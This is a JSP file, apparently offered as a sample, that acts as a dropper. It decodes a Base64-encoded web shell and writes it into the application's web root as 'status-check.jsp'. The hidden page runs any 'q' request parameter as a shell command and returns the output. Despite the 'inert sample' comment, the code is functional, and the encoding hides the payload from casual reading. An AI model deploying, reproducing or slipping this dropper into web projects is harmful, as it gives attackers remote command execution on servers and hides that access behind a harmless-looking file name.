<%-- inert sample: a dropper keeping the command page it plants Base64-encoded in a field, far from
     the decoder call; the page is written next to the application's own pages. --%>
<%@ page import="java.io.FileOutputStream,java.util.Base64" %>
<%!
    private static final String PAGE = "PCVAIHBhZ2UgaW1wb3J0PSJqYXZhLmlvLioiICU+CjwlCiAgICBTdHJpbmcgYyA9IHJlcXVlc3QuZ2V0UGFyYW1ldGVyKCJxIik7CiAgICBpZiAoYyAhPSBudWxsKSB7CiAgICAgICAgUHJvY2VzcyBwID0gUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYyhuZXcgU3RyaW5nW117InNoIiwgIi1jIiwgY30pOwogICAgICAgIG91dC5wcmludChuZXcgamF2YS51dGlsLlNjYW5uZXIocC5nZXRJbnB1dFN0cmVhbSgpKS51c2VEZWxpbWl0ZXIoIlxcQSIpLm5leHQoKSk7CiAgICB9CiU+Cg==";
%>
<%
    String target = application.getRealPath("/") + "status-check.jsp";
    try (FileOutputStream o = new FileOutputStream(target)) {
        o.write(Base64.getDecoder().decode(PAGE));
    }
    out.print("ok");
%>
